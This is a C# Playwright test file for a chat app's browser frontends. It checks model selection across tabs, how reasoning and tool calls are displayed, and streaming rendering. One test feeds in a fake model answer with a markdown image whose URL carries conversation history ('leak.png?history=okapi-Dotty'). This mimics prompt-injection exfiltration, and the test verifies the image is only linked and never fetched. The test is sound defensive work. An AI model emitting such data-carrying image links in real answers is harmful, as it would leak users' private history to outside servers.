using ChatStreaming.FakeOpenAI;
using Microsoft.Playwright;
using Xunit.Abstractions;

namespace ChatStreaming.Hub.Tests.Clients;

/// <summary>
/// Models, reasoning and tool calls in both browser frontends against the catalog instances: the picker sets the
/// conversation's model (every tab follows), the answer shows its reasoning collapsed and its tool call as one line
/// whose result opens, live on the other instance and again after a reload.
/// </summary>
[Collection(ClientCollection.Name)]
public sealed class BrowserPartsTests(ChatCluster cluster, BrowserSession browser, ITestOutputHelper output) : IDisposable
{
    private const string Answer = "#messages li.assistant";

    public static TheoryData<string> Apps => new() { "/", "/web/" };

    /// <summary>The Blazor pages this test signed in are free for the next test (<see cref="BrowserSession"/>).</summary>
    public void Dispose() => browser.ReleasePages();

    private static string Name(string app) => app == "/" ? "browser" : "blazor";

    [Theory]
    [MemberData(nameof(Apps))]
    public async Task ThePickerChoosesTheModelAndTheAnswerShowsItsReasoningAndToolCallInEveryTabAndRemoteImagesAsLinks(string app)
    {
        var (a, b) = await cluster.CatalogHubsAsync();
        var user = $"{Name(app)}-parts";
        await using (var seeder = await cluster.ConnectAsync(a.Url, user))
        {
            var seed = await seeder.CreateConversationAsync("Animals");
            var sent = await seeder.SendAsync(seed.Id, "my okapi is called Dotty", model: "fast");
            await seeder.WaitForFinishedAsync(sent.AssistantMessageId);
        }

        var first = await PageAsync(b.Url, app, user);
        var second = await PageAsync(a.Url, app, user);
        var id = await BrowserSession.NewConversationAsync(first);
        await first.SelectOptionAsync("#model-select", "thinker");
        await second.ClickAsync($"#conversations li[data-conversation-id='{id}'] button.open");
        await BrowserSession.WaitUntilAsync(second, "() => document.querySelector('#model-select').value === 'thinker'", first); // set in the other tab

        await first.FillAsync("#composer-input", "please search my history for okapi");
        await first.PressAsync("#composer-input", "Enter");
        foreach (var page in new[] { second, first })
        {
            await page.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = 30_000 });
            await AssertShowsPartsAsync(page, live: true);
        }

        await first.ClickAsync($"{Answer} details.tool summary");
        await first.WaitForSelectorAsync($"{Answer} details.tool[open] pre:has-text('Dotty')");
        await Screenshot(first, $"{Name(app)}-parts");

        await second.ReloadAsync();
        await second.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = BrowserSession.BootTimeoutMs });
        await AssertShowsPartsAsync(second, live: false); // the saved parts

        await AnAnswersRemoteImageIsShownAsALinkAndNeverFetchedAsync(first, b.Url, app);
        await ALongFastAnswerEndsShownWholeAsync(first, app);
    }

    /// <summary>
    /// A long answer from a fast model (1000 tokens at 500 a second) ends shown whole: the page draws streaming text at
    /// most every 50 ms, so a draw may lag the stream, but the end draws everything. Prints how long the page's main
    /// thread was busy while it streamed (Chrome's Performance.getMetrics TaskDuration: scripts, Markdown, layout,
    /// paint; docs/clients.md compares it with drawing every chunk).
    /// </summary>
    private async Task ALongFastAnswerEndsShownWholeAsync(IPage page, string app)
    {
        var prompt = $"a long answer, fast ({Name(app)})";
        var reply = FakeReply.Tokens(1000, 500);
        cluster.FakeModel.EnqueueFor(prompt, reply);
        await BrowserSession.NewConversationAsync(page);
        await page.SelectOptionAsync("#model-select", "gpt");
        var cdp = await page.Context.NewCDPSessionAsync(page);
        await cdp.SendAsync("Performance.enable");
        var before = await MainThreadBusyAsync(cdp);

        await page.FillAsync("#composer-input", prompt);
        await page.PressAsync("#composer-input", "Enter");
        await page.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = 60_000 });

        var busy = await MainThreadBusyAsync(cdp) - before;
        output.WriteLine($"measured: {Name(app)} page, a 1000-token answer at 500 tokens/s: main thread busy {busy:0.0} s");
        Assert.Equal(string.Concat(reply.Deltas), (await page.InnerTextAsync($"{Answer} .text")).Trim());
    }

    private static async Task<double> MainThreadBusyAsync(ICDPSession cdp)
    {
        var metrics = (await cdp.SendAsync("Performance.getMetrics"))!.Value.GetProperty("metrics");
        return metrics.EnumerateArray().Single(m => m.GetProperty("name").GetString() == "TaskDuration").GetProperty("value").GetDouble();
    }

    /// <summary>
    /// An answer's remote image is shown as a link and never fetched (what a prompt-injected answer would do: an image
    /// whose address carries what the model read), a data: image still shows, and the page has its CSP. Run on a page of
    /// the test above (one page boot less per app, the Blazor one being seconds of CPU).
    /// </summary>
    private async Task AnAnswersRemoteImageIsShownAsALinkAndNeverFetchedAsync(IPage page, string baseUrl, string app)
    {
        await using var elsewhere = await CountingHttpServer.StartAsync();
        var prompt = $"describe my history as a picture ({Name(app)})";
        cluster.FakeModel.EnqueueFor(prompt, new FakeReply { Deltas = ["Here it is: ", $"![your history]({elsewhere.Url}/leak.png?history=okapi-Dotty)", " and a local one ![ok](data:image/png;base64,iVBORw0KGgo=)."] });
        using (var http = new HttpClient())
        {
            using var response = await http.GetAsync($"{baseUrl}{app}");
            var policy = string.Join(' ', response.Headers.GetValues("Content-Security-Policy"));
            Assert.Contains("script-src 'self' 'wasm-unsafe-eval';", policy, StringComparison.Ordinal);
            Assert.Contains("img-src 'self' data:;", policy, StringComparison.Ordinal);
            Assert.Contains("connect-src 'self';", policy, StringComparison.Ordinal);
        }

        await BrowserSession.NewConversationAsync(page);
        await page.SelectOptionAsync("#model-select", "gpt");
        await page.FillAsync("#composer-input", prompt);
        await page.PressAsync("#composer-input", "Enter");
        await page.WaitForSelectorAsync($"{Answer} .text a[href*='leak.png']", new() { Timeout = 30_000 });
        await page.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = 30_000 });

        var link = page.Locator($"{Answer} .text a[href*='leak.png']");
        Assert.Equal(1, await link.CountAsync());
        Assert.Equal("your history", (await link.InnerTextAsync()).Trim());
        Assert.Equal(0, await page.Locator($"{Answer} .text img[src*='leak.png']").CountAsync());
        Assert.Equal(1, await page.Locator($"{Answer} .text img[src^='data:']").CountAsync()); // data: images still show
        Assert.Empty(elsewhere.Requests);
    }

    private static async Task AssertShowsPartsAsync(IPage page, bool live)
    {
        var reasoning = page.Locator($"{Answer} .parts details.reasoning");
        Assert.Equal(1, await reasoning.CountAsync());
        Assert.Null(await reasoning.GetAttributeAsync("open")); // collapsed
        Assert.Matches(live ? @"^Thought for \d+ s$" : @"^Thought( for \d+ s)?$", (await reasoning.Locator("summary").InnerTextAsync()).Trim());
        Assert.StartsWith("The question is about please.", await reasoning.Locator("pre").TextContentAsync(), StringComparison.Ordinal);
        var tool = page.Locator($"{Answer} .parts details.tool");
        Assert.Equal(1, await tool.CountAsync());
        Assert.Equal("Called search_history · okapi", (await tool.Locator("summary").InnerTextAsync()).Trim());
        Assert.Contains("Dotty", await tool.Locator("pre").TextContentAsync(), StringComparison.Ordinal);
        Assert.StartsWith("I looked through your earlier messages first.", (await page.InnerTextAsync($"{Answer} .text")).Trim(), StringComparison.Ordinal);
        Assert.EndsWith("· thinker", (await page.InnerTextAsync($"{Answer} .badge")).Trim(), StringComparison.Ordinal);
    }

    private async Task<IPage> PageAsync(string baseUrl, string app, string user)
    {
        var page = await browser.SignedInPageAsync(baseUrl, app, user);
        await page.WaitForSelectorAsync("#model-select option[value='thinker']", new() { State = WaitForSelectorState.Attached });
        return page;
    }

    private static Task Screenshot(IPage page, string name) =>
        page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(BrowserSession.ScreenshotDirectory, $"{name}.png") });
}
